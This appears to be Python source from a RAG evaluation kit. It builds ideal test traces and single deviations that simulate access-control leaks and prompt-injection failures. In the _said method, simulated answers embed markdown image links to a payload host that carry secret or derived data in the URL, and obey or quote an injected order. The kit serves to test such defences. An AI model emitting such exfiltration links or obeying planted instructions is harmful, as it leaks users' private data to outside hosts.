"""An example of a family file as data: the ideal trace of a case, and one deviation from it.

The ideal trace is what a correct system would show, as the case's own expectation (the monitor's
word) has it: no retrieval system takes part. A deviation is written
`{outcome: {at: WHERE, TAP: CHANGE}}`. WHERE is a mark (`twin`, `sibling`, `contrast`, `live`), or
n: the n-th step of the denied reader that can show the tap. TAP is a tap or `must`, the family's
first required one.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Any

from rageval_kit.detect.canary import PROMPT_CANARY
from rageval_kit.generate.scene import Scene
from rageval_kit.generate.words import MARK
from rageval_kit.records.cases import (
    Apply,
    Ask,
    Case,
    Count,
    Enter,
    Inventory,
    Look,
    Observation,
    ReadSink,
    Resolve,
    Step,
    StepExpectation,
    Together,
    Trace,
    Wait,
)
from rageval_kit.records.target import Indexed, Seen, Stage, ToolCall

LISTS = (
    Stage.RETRIEVE_SPARSE,
    Stage.RETRIEVE_DENSE,
    Stage.RETRIEVE,
    Stage.RERANK_INPUT,
    Stage.RERANK,
)
READERS = ("reader", "operator")
DOORS = {
    Stage.SUGGEST: {"suggest", "spelling", "facets", "sign_on", "statistics"},
    Stage.CITATION: {"related", "preview", "batch", "break_glass"},
    Stage.LOG: {"explain", "raw_prompt"},
    Stage.ANSWER: {"history", "share", "shared", "export", "summary"},
}


@dataclass(frozen=True)
class Example:
    """One example: the outcome it states, where it deviates, and the note it must carry."""

    outcome: str
    deviation: Mapping[str, Any]
    note: str = ""

    @classmethod
    def of(cls, data: Mapping[str, Any]) -> "Example":
        rest = dict(data)
        note = rest.pop("note", "")
        ((outcome, deviation),) = rest.items()
        return cls(outcome, deviation, note)


@dataclass(frozen=True)
class Ideal:
    """The trace of a case as a correct system would give it; texts carry their canaries."""

    scene: Scene
    case: Case
    must: tuple[Stage, ...] = ()
    changed: Mapping[tuple[int, int], Mapping[Stage, Seen]] = field(default_factory=dict)
    listed: Mapping[tuple[int, int], tuple[Indexed, ...]] = field(default_factory=dict)

    def trace(self) -> Trace:
        observations = []
        for index, step in enumerate(self.case.script.steps):
            if isinstance(step, Enter):
                continue
            for part, one in enumerate(step.asks if isinstance(step, Together) else (step,)):
                observations.append(self._observation(index, part, one))
        return Trace(self.case.case_id, tuple(observations))

    def deviating(self, deviation: Mapping[str, Any]) -> "Ideal":
        """The same with one tap of one step changed."""
        if not deviation:
            return self
        ((name, change),) = ((k, v) for k, v in deviation.items() if k != "at")
        tap = self.must[0] if name == "must" else Stage(name)
        place = self.place(deviation["at"], tap)
        if tap is Stage.INDEX:
            return replace(self, listed={**self.listed, place: self._listing(place, change)})
        seen = dict(self._seen(*place, self._step(*place)))
        seen[tap] = self._apply(change, seen.get(tap, Seen()))
        return replace(self, changed={**self.changed, place: seen})

    def place(self, at: str | int, tap: Stage) -> tuple[int, int]:
        """Step and part of the twin's or the sibling's question, or of the reader's n-th."""
        marks = self.case.expectation.marks
        if isinstance(at, str):
            name, _, nth = at.partition(".")
            return marks[name][int(nth or 1) - 1], 0
        steps = [place for place in self.of_reader() if tap in self.showing(place)]
        return steps[int(at) - 1]

    def of_reader(self) -> Iterator[tuple[int, int]]:
        """The denied reader's own steps, in order."""
        for index, step in enumerate(self.case.script.steps):
            for part, one in enumerate(step.asks if isinstance(step, Together) else (step,)):
                if getattr(one, "role", "") in READERS:
                    yield index, part

    def _step(self, index: int, part: int) -> Step:
        step = self.case.script.steps[index]
        return step.asks[part] if isinstance(step, Together) else step

    def _observation(self, index: int, part: int, step: Step) -> Observation:
        if isinstance(step, Apply | Wait):
            return Observation(index, part, "kit", "", acknowledged=True)
        if isinstance(step, Inventory):
            rows = self.listed.get((index, part), self._listing((index, part)))
            shown = Observation(index, part, step.role, "", {Stage.INDEX: Seen()})
            return replace(shown, inventory=rows)
        seen = self.changed.get((index, part)) or self._seen(index, part, step)
        kept = {stage: shown for stage, shown in seen.items() if stage in self.scene.taps}
        who = step.caller.principal_id
        return Observation(index, part, step.role, who, kept, latency_s=0.001)

    def _listing(self, place: tuple[int, int], change: str = "") -> tuple[Indexed, ...]:
        """The index as the source has it; or an entry too many, too few, of an old model."""
        source = self.case.expectation.steps[place].source
        there = [entry for entry in source.entries.values() if entry.gone_at is None]
        rows = [Indexed(e.chunk_id, e.version_id, e.digest, source.model) for e in there]
        match change:
            case "+orphan":
                rows.append(Indexed("of-no-source"))
            case "-due":
                rows.remove(next(r for r, e in zip(rows, there, strict=True) if e.in_force))
            case "no_model":
                rows = [replace(row, model="") for row in rows]
            case "old_model":
                rows[0] = replace(rows[0], model="old")
            case "-all":
                rows.clear()
        return tuple(rows)

    def showing(self, place: tuple[int, int]) -> frozenset[Stage]:
        """The taps that a step can show."""
        step = self._step(*place)
        if isinstance(step, Inventory):
            return frozenset({Stage.INDEX})
        if isinstance(step, Count):
            return frozenset({Stage.SUGGEST})
        if isinstance(step, Resolve):
            return frozenset({Stage.CITATION})
        if isinstance(step, ReadSink):
            return frozenset({Stage.LOG})
        if isinstance(step, Look):
            return frozenset(tap for tap, doors in DOORS.items() if step.door in doors)
        return frozenset(
            {*LISTS, Stage.CACHE, Stage.CONTEXT, Stage.CITATION, Stage.ANSWER, Stage.TOOL}
            | {Stage.ANSWER_STREAM, Stage.EGRESS}
        )

    def _seen(self, index: int, part: int, step: Step) -> Mapping[Stage, Seen]:
        expected = self.case.expectation.steps[index, part]
        if isinstance(step, Count):
            return {Stage.SUGGEST: Seen(count=expected.visible_count)}
        if isinstance(step, ReadSink) and step.sink == "audit":
            return {Stage.LOG: Seen(texts=self._records(index))}
        if isinstance(step, ReadSink):
            return {Stage.LOG: Seen(texts=("a question was answered",))}
        if isinstance(step, Look):
            return self._looked(step, expected)
        if isinstance(step, Resolve):
            ids = self._readable("target", expected) if step.role != "contrast" else ()
            status = "ok" if ids else "not_found"
            return {Stage.CITATION: Seen(ids, self._texts(ids), status=status)}
        return self._answered(index, step, expected)

    def _records(self, index: int) -> tuple[str, ...]:
        """A complete record of every call of the reader before this one."""
        roles = self.case.expectation.roles
        record = {
            "time": max(roles["clock"]),
            "objects": sorted(roles["target"]),
            "rules": ["a rule"],
        }
        return tuple(
            json.dumps(record | {"principal": step.caller.principal_id})
            for step in self.case.script.steps[:index]
            if getattr(step, "role", "") == "reader"
        )

    def _looked(self, step: Look, expected: StepExpectation) -> Mapping[Stage, Seen]:
        """What a door shows to whoever may read the target; to anybody else, nothing."""
        if step.door == "sign_on":
            return {Stage.SUGGEST: Seen(status="ok", links=("token",))}
        ((tap, _),) = ((tap, doors) for tap, doors in DOORS.items() if step.door in doors)
        ids = self._readable("target", expected)
        if step.door == "break_glass":  # whatever the rights
            ids = tuple(sorted(self.case.expectation.roles["target"]))
        texts = (*self._texts(ids), *((expected.wanted,) if expected.wanted else ()))
        n = expected.visible_count
        counted = () if n is None else (("tenant:any", n),)
        return {tap: Seen(ids, texts, count=n, status="ok", facets=counted)}

    def _answered(self, index: int, step: Ask, expected: StepExpectation) -> Mapping[Stage, Seen]:
        """An answer from the passages the reader may see; from the cache where one must be live."""
        told = self.case.expectation
        if told.payload is not None or "clean" in told.roles:
            untouched = self._untouched(step, expected)
            is_hit = index == max(self.case.expectation.marks.get("live", (-1,)))
            hit = {Stage.CACHE: untouched[Stage.CONTEXT]} if is_hit and expected.wanted else {}
            return {**untouched, **hit}
        marks = self.case.expectation.marks
        ids = self._wanted(step, expected)
        followed = marks.get("before", ()) if "followed" in marks else ()
        linked = ("link",) if index in (*marks.get("signed", ()), *followed) else ()
        elsewhere = (*marks.get("sibling", ()), *marks.get("elsewhere", ()))
        if index in elsewhere or (index in marks.get("live", ()) and not ids):
            ids = self._readable("sibling", expected)
        if index in marks.get("unanswerable", ()):
            ids = ()
        texts = self._texts(ids)
        said = texts
        if self._of_versions:  # also of a version that an event brought, whose text is not here
            right = set(self.case.expectation.values) - set(expected.unwanted)
            said = (*texts, *sorted(right if ids else ()))
        poisoned = "true" in self.case.expectation.roles  # listed beside the truth, not quoted
        beside = self._readable("carrier", expected) if poisoned else ()
        shown = {
            Stage.CONTEXT: Seen(ids, texts),
            Stage.CITATION: Seen(ids, ("title",) * len(ids), links=linked),
            Stage.ANSWER: Seen(texts=(" ".join(said) or "nothing was found",)),
            Stage.ANSWER_STREAM: Seen(texts=said or ("nothing was found",)),
            Stage.EGRESS: Seen(ids, texts, calls=(ToolCall("model", " ".join(texts)),)),
        }
        if index == max(marks.get("live", (-1,))):
            return {Stage.CACHE: Seen(ids, texts), **shown}
        return {Stage.CACHE: Seen(), **{stage: Seen((*ids, *beside)) for stage in LISTS}, **shown}

    def _untouched(self, step: Ask, expected: StepExpectation) -> Mapping[Stage, Seen]:
        """An answer with the value that the documents state, whatever else they say."""
        if step.role == "owner" and not expected.wanted:  # who asks for what only a tool knows
            clock = (ToolCall("clock", "{}"),)
            return {Stage.ANSWER: Seen(texts=("today",)), Stage.TOOL: Seen(calls=clock)}
        roles = ("clean",) if step.role == "clean" else ("target", "carrier", "secret")
        ids = tuple(dict.fromkeys(i for role in roles for i in self._readable(role, expected)))
        stated = f"The value is {expected.wanted}." if expected.wanted and ids else "no such thing"
        return {
            Stage.CACHE: Seen(),
            **{stage: Seen(ids) for stage in LISTS},
            Stage.CONTEXT: Seen(ids, ("a passage",) * len(ids)),
            Stage.CITATION: Seen(ids, ("title",) * len(ids)),
            Stage.ANSWER: Seen(texts=(stated,)),
            Stage.TOOL: Seen(),
        }

    def _wanted(self, step: Ask, expected: StepExpectation) -> tuple[str, ...]:
        """What the question asks for: the target, or the crowd's readable part of it."""
        if step.role == "author":
            return self._readable("published", expected)
        if self._of_versions:
            sources = [r for r in self.case.expectation.roles if r.startswith("other")]
            wanted = ("target", "sibling", *(sources if not expected.unwanted else ()))
            ids = (item for role in wanted for item in self._readable(role, expected))
            return tuple(dict.fromkeys(ids))
        if "relevant" in self.case.expectation.roles:
            return self._readable("relevant", expected)[: step.k]
        if "together" in self.case.expectation.marks:
            return self._in_query(step, expected)
        found = self._readable("target", expected)
        if "beside" in self.case.expectation.roles:  # which the same question finds
            found = tuple(dict.fromkeys((*found, *self._readable("sibling", expected))))
        return found

    @property
    def _of_versions(self) -> bool:
        """Whether the case asks what a document's versions, or its neighbours, state."""
        expectation = self.case.expectation
        return bool(expectation.kept) or any(r.startswith("version.") for r in expectation.roles)

    def _in_query(self, step: Ask, expected: StepExpectation) -> tuple[str, ...]:
        """Many pairs share the step: each question names its own target by title."""
        return tuple(
            chunk_id
            for chunk_id, place in self.scene.places.items()
            if place.version.title == step.query and chunk_id in expected.permitted
        )

    def _readable(self, role: str, expected: StepExpectation) -> tuple[str, ...]:
        ids = self.case.expectation.roles.get(role, frozenset())
        return tuple(sorted(item for item in ids if item in expected.permitted))

    def _texts(self, ids: tuple[str, ...]) -> tuple[str, ...]:
        places = self.scene.places
        return tuple(places[item].chunk.text for item in ids if item in places)

    def _apply(self, change: str | int, seen: Seen) -> Seen:
        target = tuple(sorted(self.case.expectation.roles["target"]))
        if isinstance(change, int):  # YAML reads +1 as a number
            return replace(seen, count=(seen.count or 0) + change)
        match change:
            case "+canary":
                made = replace(seen, texts=(*seen.texts, *self._texts(target)))
            case "+target":
                made = replace(seen, ids=(*seen.ids, *target), status=seen.status and "ok")
            case "-target" | "-sibling" | "-relevant" | "-carrier":
                gone = self.case.expectation.roles[change[1:]]
                kept = tuple(item for item in seen.ids if item not in gone)
                made = replace(seen, ids=kept, texts=self._texts(kept) if seen.texts else ())
            case "-all":
                made = Seen(count=None if seen.count is None else 0, status=seen.status)
            case "no_principal":
                made = replace(seen, texts=tuple(t.replace("principal", "who") for t in seen.texts))
            case "+unknown":
                made = replace(seen, ids=(*seen.ids, "of-no-source"))
            case "+call" | "+elsewhere":
                made = replace(seen, calls=(*seen.calls, self._called(change)))
            case "status":
                made = replace(seen, status="forbidden")
            case "+unwanted" | "=unwanted" | "one_value":
                shown = " ".join(seen.texts)
                values = sorted(self.case.expectation.values)
                other = next(v for v in values if (v in shown) == (change == "one_value"))
                made = replace(seen, texts=(*(seen.texts if change[0] == "+" else ()), other))
            case _ if change[1:] in self.case.expectation.roles:
                made = self._with_role(change, seen)
            case _:
                made = replace(seen, texts=(*seen.texts, self._said(change)))
        return made

    def _with_role(self, change: str, seen: Seen) -> Seen:
        """What stands under a role comes to a tap, as ids where it shows ids, as text, or goes."""
        role = tuple(sorted(self.case.expectation.roles[change[1:]]))
        if change[0] == "-":
            return replace(seen, ids=tuple(item for item in seen.ids if item not in role))
        return replace(
            seen,
            ids=(*seen.ids, *role) if seen.ids or not seen.texts else (),
            texts=(*seen.texts, *self._texts(role)) if seen.texts else (),
        )

    def _called(self, change: str) -> ToolCall:
        """A call that the payload wants, or one to whom no passage may be sent."""
        if change == "+elsewhere":
            return ToolCall("quality-judge", "a question")
        payload = self.case.expectation.payload
        return ToolCall(payload.tool, " ".join(payload.derived))

    def _said(self, change: str) -> str:
        """What an answer adds: something hidden, or the payload's order quoted or obeyed."""
        if change == "+term":
            hidden = (t for e in self.case.expectation.steps.values() for t in e.unwanted)
            return f"also: {next(hidden)}"
        if change == "+vector":
            return str([n / 64 for n in range(64)])
        if change == "+prompt":
            return PROMPT_CANARY
        if change == "+hint":
            return "There is more on this that you may not see."
        expectation = self.case.expectation
        payload = expectation.payload
        secret = "".join(self._texts(tuple(expectation.roles.get("secret", ()))))
        obeyed = {"leak": secret, "citation": f"Source: {payload.decoy}"}
        derived = " ".join(payload.derived)
        host = next(iter(payload.hosts), "away.test")
        site = min(expectation.roles.get("host") or {host})
        code = "".join(MARK.findall(secret)).strip()[len("[ref ") : -1]
        return {
            "+quoted": f'The document says: "{payload.order}"',
            "+obeyed": obeyed.get(payload.goal, f"The value is {derived}."),
            "+url": f"![](https://{host}/p.png?d={derived})",
            "+code": f"It wants `![](https://{host}/p.png)`.",
            "+secret_url": f"![](https://{site}/p.png?d={code})",
        }[change]
